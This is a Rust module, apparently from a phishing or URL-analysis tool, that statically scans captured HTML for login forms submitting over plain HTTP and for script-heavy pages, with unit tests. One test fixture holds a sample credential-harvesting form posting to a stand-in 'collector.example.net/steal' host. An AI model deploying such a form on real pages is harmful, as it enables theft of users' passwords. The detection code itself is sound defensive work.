//! Static inspection of the captured landing page.
//!
//! This module detects:
//! - Password fields (login forms) and whether they submit over plain HTTP
//! - Script-heavy pages whose behavior static analysis cannot judge
//!
//! Nothing on the page is executed; the markup is parsed with `scraper`.

use std::sync::LazyLock;

use scraper::{ElementRef, Html, Selector};
use url::Url;

use crate::models::{ContentReport, Finding, FindingCategory};

/// Pages with more scripts than this (and no login form) are flagged.
pub const DYNAMIC_SCRIPT_THRESHOLD: usize = 10;

// CSS selector strings
const INPUT_SELECTOR_STR: &str = "input[type]";
const FORM_SELECTOR_STR: &str = "form";
const SCRIPT_SELECTOR_STR: &str = "script";

static INPUT_SELECTOR: LazyLock<Selector> =
    LazyLock::new(|| parse_selector_with_fallback(INPUT_SELECTOR_STR, "password inputs"));
static FORM_SELECTOR: LazyLock<Selector> =
    LazyLock::new(|| parse_selector_with_fallback(FORM_SELECTOR_STR, "forms"));
static SCRIPT_SELECTOR: LazyLock<Selector> =
    LazyLock::new(|| parse_selector_with_fallback(SCRIPT_SELECTOR_STR, "scripts"));

/// Parses a CSS selector, falling back to one that matches nothing.
fn parse_selector_with_fallback(selector_str: &str, context: &str) -> Selector {
    Selector::parse(selector_str).unwrap_or_else(|e| {
        log::error!("Failed to parse CSS selector '{selector_str}' for {context}: {e}");
        Selector::parse("*:not(*)").expect(
            "Fallback selector '*:not(*)' should always parse - this is a programming error",
        )
    })
}

/// Scans captured HTML for risky page constructs.
#[derive(Debug, Clone, Copy, Default)]
pub struct ContentScanner;

impl ContentScanner {
    /// Inspects `html` as served from `base_url`.
    ///
    /// An empty page yields an all-false report with no warnings.
    ///
    /// # Arguments
    ///
    /// * `html` - Page body (possibly truncated)
    /// * `base_url` - URL the page was served from; form actions resolve against it
    pub fn scan(&self, html: &str, base_url: &str) -> ContentReport {
        let mut report = ContentReport::default();
        if html.trim().is_empty() {
            return report;
        }

        let document = Html::parse_document(html);
        let base = Url::parse(base_url).ok();
        let page_is_plain_http = match &base {
            Some(url) => url.scheme() == "http",
            None => base_url.to_ascii_lowercase().starts_with("http://"),
        };

        let password_fields: Vec<ElementRef<'_>> = document
            .select(&INPUT_SELECTOR)
            .filter(|input| {
                input
                    .value()
                    .attr("type")
                    .is_some_and(|t| t.trim().eq_ignore_ascii_case("password"))
            })
            .collect();

        report.has_login_form = !password_fields.is_empty();
        report.is_insecure_login = password_fields.iter().any(|field| {
            page_is_plain_http || submits_over_plain_http(&document, field, base.as_ref())
        });

        if report.is_insecure_login {
            report.warnings.push(Finding::new(
                FindingCategory::InsecureLogin,
                "Insecure Login Form (HTTP)",
            ));
        }

        report.script_count = document.select(&SCRIPT_SELECTOR).count();
        if report.script_count > DYNAMIC_SCRIPT_THRESHOLD && !report.has_login_form {
            report.dynamic_content_heavy = true;
            report.warnings.push(Finding::new(
                FindingCategory::DynamicContent,
                "Heavy Dynamic Content (Analysis Limited)",
            ));
        }

        log::debug!(
            "Content of {base_url}: login form {}, insecure {}, {} script(s)",
            report.has_login_form,
            report.is_insecure_login,
            report.script_count
        );
        report
    }
}

/// Finds the form that owns `field`: its `form` attribute, else the nearest ancestor.
fn owning_form<'a>(document: &'a Html, field: &ElementRef<'a>) -> Option<ElementRef<'a>> {
    if let Some(form_id) = field.value().attr("form") {
        if let Some(form) = document
            .select(&FORM_SELECTOR)
            .find(|form| form.value().id() == Some(form_id))
        {
            return Some(form);
        }
    }
    field
        .ancestors()
        .filter_map(ElementRef::wrap)
        .find(|element| element.value().name() == "form")
}

/// Whether the field's form posts to a plain-HTTP action.
fn submits_over_plain_http(document: &Html, field: &ElementRef<'_>, base: Option<&Url>) -> bool {
    let Some(action) = owning_form(document, field)
        .and_then(|form| form.value().attr("action"))
        .map(str::trim)
        .filter(|action| !action.is_empty())
    else {
        // No action submits to the page itself
        return false;
    };

    let resolved = match base {
        Some(base) => base.join(action),
        None => Url::parse(action),
    };
    match resolved {
        Ok(target) => target.scheme() == "http",
        Err(e) => {
            log::debug!("Unresolvable form action '{action}': {e}");
            false
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scan(html: &str, base: &str) -> ContentReport {
        ContentScanner.scan(html, base)
    }

    fn scripts(n: usize) -> String {
        "<script>void 0</script>".repeat(n)
    }

    #[test]
    fn test_empty_page() {
        assert_eq!(scan("", "https://example.com/"), ContentReport::default());
        assert_eq!(scan("  \n", "http://example.com/"), ContentReport::default());
    }

    #[test]
    fn test_login_on_plain_http_page() {
        let report = scan(
            r#"<form><input name="u"><input type="password" name="p"></form>"#,
            "http://example.com/login",
        );
        assert!(report.has_login_form);
        assert!(report.is_insecure_login);
        assert_eq!(report.warnings.len(), 1);
        assert_eq!(report.warnings[0].message, "Insecure Login Form (HTTP)");
    }

    #[test]
    fn test_https_page_posting_to_http_action() {
        let report = scan(
            r#"<form action="http://collector.example.net/steal"><input type="PassWord"></form>"#,
            "https://example.com/",
        );
        assert!(report.is_insecure_login);
    }

    #[test]
    fn test_https_login_with_relative_action_is_fine() {
        let report = scan(
            r#"<form action="/session" method="post"><input type="password"></form>"#,
            "https://example.com/login",
        );
        assert!(report.has_login_form);
        assert!(!report.is_insecure_login);
        assert!(report.warnings.is_empty());
    }

    #[test]
    fn test_form_attribute_links_detached_field() {
        let html = r#"<form id="f" action="http://example.net/x"></form><input type="password" form="f">"#;
        let report = scan(html, "https://example.com/");
        assert!(report.is_insecure_login);
    }

    #[test]
    fn test_field_outside_any_form_on_https() {
        let report = scan(r#"<div><input type="password"></div>"#, "https://example.com/");
        assert!(report.has_login_form);
        assert!(!report.is_insecure_login);
    }

    #[test]
    fn test_several_insecure_fields_give_one_warning() {
        let html = r#"<form><input type="password"><input type="password"></form>"#;
        let report = scan(html, "http://example.com/");
        assert_eq!(report.warnings.len(), 1);
    }

    #[test]
    fn test_script_heavy_page() {
        let report = scan(&format!("<html><body>{}</body></html>", scripts(11)), "https://example.com/");
        assert_eq!(report.script_count, 11);
        assert!(report.dynamic_content_heavy);
        assert_eq!(report.warnings[0].category, FindingCategory::DynamicContent);

        let report = scan(&scripts(10), "https://example.com/");
        assert!(!report.dynamic_content_heavy);
    }

    #[test]
    fn test_login_form_suppresses_dynamic_flag() {
        let html = format!(r#"{}<form><input type="password"></form>"#, scripts(20));
        let report = scan(&html, "https://example.com/");
        assert!(report.has_login_form);
        assert!(!report.dynamic_content_heavy);
    }

    #[test]
    fn test_malformed_markup_is_tolerated() {
        let report = scan("<form <input type=password>>>><<<", "http://example.com/");
        assert!(!report.dynamic_content_heavy);
    }
}
